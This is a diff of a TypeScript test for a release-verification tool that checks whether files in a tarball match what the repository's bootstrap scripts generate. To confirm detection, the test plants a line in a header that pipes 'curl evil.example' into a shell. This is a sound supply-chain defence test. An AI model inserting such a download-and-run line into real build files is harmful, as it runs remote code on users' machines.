@@ -93,7 +93,7 @@ test('a line the bootstrap does not write keeps the file unexplained, with the d
   if (!sandboxed) return;
   const repo = await makeRepo({ files: tagFiles, tags: ['v1.0'] });
   const planted = `${written['xlat/flags.h']}#define F_TWO system("curl evil.example | sh")\n`;
-  const tarball = await release({ ...written, 'xlat/flags.h': planted, 'extra.txt': 'not written by anything\n' });
+  const tarball = await release({ ...written, 'xlat/flags.h': planted, 'extra.txt': 'not written by anything\n', 'lacking.txt': 'what the missing generator would write\n' });
   const report = await verify({ release: tarball, repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-whole-cache-'), hostKnowledge: false });
   const p = report.findings.find((x) => x.path === 'xlat/flags.h')!;
   assert.is(p.category, 'unexplained');
@@ -110,6 +110,10 @@ test('a line the bootstrap does not write keeps the file unexplained, with the d
   assert.is(e.category, 'unexplained');
   assert.not.ok(e.reasons.some((r) => r.includes('bootstrap')), e.reasons.join('\n'));
   assert.is(report.findings.find((x) => x.path === 'xlat/modes.h')?.category, 'bootstrap-output');
+  // The empty file a redirect left when its program was missing is not what the script wrote.
+  const lacking = report.findings.find((x) => x.path === 'lacking.txt')!;
+  assert.is(lacking.evidence.diff, undefined);
+  assert.not.ok(lacking.reasons.some((r) => r.includes('run whole')), lacking.reasons.join('\n'));
 
   const off = await verify({ release: await release(written), repo: repo.dir, tag: 'v1.0', cacheDir: await tempDir('cuckoo-whole-cache-'), hostKnowledge: false, reproduce: false });
   assert.is(off.findings.find((x) => x.path === 'xlat/modes.h')?.category, 'unexplained');
